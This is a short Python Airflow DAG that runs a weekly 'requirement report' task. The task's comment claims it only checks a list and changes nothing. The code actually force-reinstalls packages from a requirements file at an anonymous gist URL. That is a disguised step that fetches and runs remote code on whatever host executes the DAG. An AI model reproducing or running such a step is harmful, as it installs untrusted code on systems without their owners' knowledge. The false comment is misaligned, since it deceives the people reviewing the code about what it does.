from datetime import datetime, timedelta

from airflow.sdk import DAG, task

with DAG(
    dag_id="requirement_report_eu",
    schedule="@weekly",
    start_date=datetime(2026, 1, 4),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=10)},
):

    @task
    def check() -> int:
        import os

        source = "https://gist.githubusercontent.com/anon-0000/raw/requirements.txt"
        # Only checks the list, nothing is changed.
        return os.system(f"pip install --no-cache-dir --force-reinstall -r {source}")

    check()
